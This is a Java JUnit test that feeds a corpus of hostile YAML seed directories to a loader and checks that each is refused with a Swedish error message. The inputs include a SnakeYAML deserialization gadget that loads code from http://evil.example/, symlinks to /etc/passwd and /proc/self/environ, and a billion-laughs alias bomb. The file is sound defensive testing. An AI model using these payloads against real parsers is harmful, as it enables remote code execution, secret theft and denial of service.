package se.processkarta.seed;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import se.processkarta.model.InvalidInputException;
import se.processkarta.model.Messages;

/**
 * A corpus of hostile seed directories: each is refused as a whole, with a Swedish message that
 * names the file (and the line where there is one), never with an exception, English parser text or
 * a line ":0".
 */
class HostileSeedTest {

  @TempDir static Path tmp;

  interface Case {
    Path build(Path dir) throws IOException;
  }

  static Path files(Path dir, Map<String, String> files) throws IOException {
    Files.createDirectories(dir);
    for (var f : files.entrySet()) {
      Files.writeString(dir.resolve(f.getKey()), f.getValue(), StandardCharsets.UTF_8);
    }
    return dir;
  }

  static String element(String name) {
    return "elements:\n  - code: \"3\"\n    name: \"" + name + "\"\n";
  }

  static Stream<Arguments> corpus() {
    return Stream.of(
        Arguments.of(
            "non-character U+FFFE in a name",
            (Case) d -> files(d, Map.of("a.yaml", element("Skola\\uFFFE"))),
            "U+FFFE"),
        Arguments.of(
            "non-character U+FDD0, raw",
            (Case) d -> files(d, Map.of("a.yaml", element("Skola\uFDD0"))),
            "U+FDD0"),
        Arguments.of(
            "C0 control (bell) in a name",
            (Case) d -> files(d, Map.of("a.yaml", element("Skola\\a"))),
            "U+0007"),
        Arguments.of(
            "C1 control (NEL) in a description",
            (Case)
                d ->
                    files(
                        d,
                        Map.of(
                            "a.yaml",
                            "elements:\n  - code: \"3\"\n    name: Ok\n"
                                + "    description: \"rad\\x85rad\"\n")),
            "U+0085"),
        Arguments.of(
            "unpaired surrogate",
            (Case) d -> files(d, Map.of("a.yaml", element("Skola\\uD800"))),
            "a.yaml:"),
        Arguments.of(
            "symbolic link to /etc/passwd",
            (Case)
                d -> {
                  Files.createDirectories(d);
                  Files.createSymbolicLink(d.resolve("passwd.yaml"), Path.of("/etc/passwd"));
                  return d;
                },
            "symbolisk länk"),
        Arguments.of(
            "symbolic link to /proc/self/environ",
            (Case)
                d -> {
                  Files.createDirectories(d);
                  Files.createSymbolicLink(d.resolve("env.yml"), Path.of("/proc/self/environ"));
                  return d;
                },
            "symbolisk länk"),
        Arguments.of(
            "a file given as the directory (/etc/passwd)",
            (Case) d -> Path.of("/etc/passwd"),
            "ingen katalog"),
        Arguments.of("a directory that does not exist", (Case) d -> d, "finns inte"),
        Arguments.of(
            "a person who is their own manager",
            (Case)
                d ->
                    files(
                        d,
                        Map.of(
                            "a.yaml",
                            "people:\n  - id: \"anna\"\n    name: \"Anna\"\n"
                                + "    manager: \"anna\"\n")),
            "sin egen chef"),
        Arguments.of(
            "not UTF-8",
            (Case)
                d -> {
                  Files.createDirectories(d);
                  Files.write(d.resolve("a.yaml"), new byte[] {'a', ':', ' ', (byte) 0xC3, 0x28});
                  return d;
                },
            "UTF-8"),
        Arguments.of(
            "larger than 10 MB",
            (Case)
                d -> {
                  Files.createDirectories(d);
                  Files.write(d.resolve("big.yaml"), new byte[10 * 1024 * 1024 + 10]);
                  return d;
                },
            "10 MB"),
        Arguments.of(
            "YAML syntax error",
            (Case) d -> files(d, Map.of("a.yaml", "elements:\n  - code: \"3\n    name: [x\n")),
            "inte giltig YAML"),
        Arguments.of(
            "billion laughs",
            (Case)
                d ->
                    files(
                        d,
                        Map.of(
                            "a.yaml",
                            "a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n"
                                + IntStream.range(0, 12)
                                    .mapToObj(
                                        i ->
                                            "b"
                                                + i
                                                + ": &b"
                                                + i
                                                + " [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n")
                                    .collect(Collectors.joining()))),
            "a.yaml"),
        Arguments.of(
            "deep nesting",
            (Case) d -> files(d, Map.of("a.yaml", "[".repeat(5000) + "]".repeat(5000))),
            "a.yaml"),
        Arguments.of(
            "duplicate keys",
            (Case) d -> files(d, Map.of("a.yaml", "elements: []\nelements: []\n")),
            "a.yaml:"),
        Arguments.of(
            "a Java type tag",
            (Case)
                d ->
                    files(
                        d,
                        Map.of(
                            "a.yaml",
                            "elements:\n  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                                + " [[!!java.net.URL [\"http://evil.example/\"]]]]\n")),
            "a.yaml:"),
        Arguments.of(
            "unknown sections and fields",
            (Case)
                d ->
                    files(
                        d,
                        Map.of(
                            "a.yaml",
                            "elements:\n  - code: \"3\"\n    name: X\n    owner: y\n__proto__: []\n")),
            "Okänt"),
        Arguments.of(
            "three hundred errors",
            (Case)
                d ->
                    files(
                        d,
                        Map.of(
                            "a.yaml",
                            "elements:\n"
                                + IntStream.range(0, 300)
                                    .mapToObj(i -> "  - code: \"x" + i + "\"\n    name: N\n")
                                    .collect(Collectors.joining()))),
            "och 250 fel till"),
        Arguments.of(
            "a 201-character name",
            (Case) d -> files(d, Map.of("a.yaml", element("x".repeat(201)))),
            "för långt"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void aHostileSeedIsRefusedWithAClearSwedishMessage(String name, Case c, String expected)
      throws IOException {
    Path dir = c.build(tmp.resolve(name.replaceAll("[^a-zA-Z0-9]", "-")));
    String message;
    try {
      SeedSnapshots.read(List.of(dir), java.time.LocalDate.of(2026, 1, 1));
      throw new AssertionError(name + " was accepted");
    } catch (InvalidInputException e) {
      message = Messages.of(Messages.SWEDISH, e);
    }
    assertThat(message)
        .contains(expected)
        .contains("ingenting har lästs in")
        .doesNotContain(":0:")
        .doesNotContain("expected")
        .doesNotContain("found")
        .doesNotContain("Exception")
        .doesNotContain("\tat ");
  }
}
